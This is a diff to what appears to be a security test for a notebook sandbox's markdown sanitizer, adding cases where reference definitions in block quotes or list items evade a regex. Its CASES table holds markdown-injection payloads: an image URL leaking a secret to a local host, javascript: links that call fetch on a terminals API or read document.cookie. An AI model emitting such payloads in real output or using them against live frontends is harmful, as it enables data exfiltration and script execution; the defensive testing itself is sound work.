@@ -8,7 +8,9 @@ brackets; CommonMark (JupyterLab's marked, nbconvert's mistune) allows
 balanced brackets there, so the frontend renders ``<img src="http://...">``
 (the browser fetches it: data leaves past the sandbox's network policy,
 no click needed) and a ``javascript:`` link. Also kept: the outer target of
-``[![i](data:...)](javascript:...)``.
+``[![i](data:...)](javascript:...)``, and reference definitions inside a
+block quote or list item (``> [r]: http://...`` then ``![a][r]``: the
+definition regex wants it at a line start).
 
 Judged from the host, at the protocol level (a real glsandbox kernel over
 ZMQ): the relayed markdown, rendered by a CommonMark renderer (mistune, as
@@ -39,6 +41,8 @@ CASES = {
     "image": "![chart [1] final](http://127.0.0.1:8000/leak?d=SECRET)",
     "link": "[see [1] here](javascript:fetch('/api/terminals',{method:'POST'}))",
     "link-around-image": "[![i](data:image/png;base64,AA==)](javascript:alert(document.cookie))",
+    "refdef-in-quote": "> [r]: http://127.0.0.1:8000/q.png\n\n![a][r]",
+    "refdef-in-list": "- [r]: http://127.0.0.1:8000/l.png\n\n![a][r]",
 }
 
 
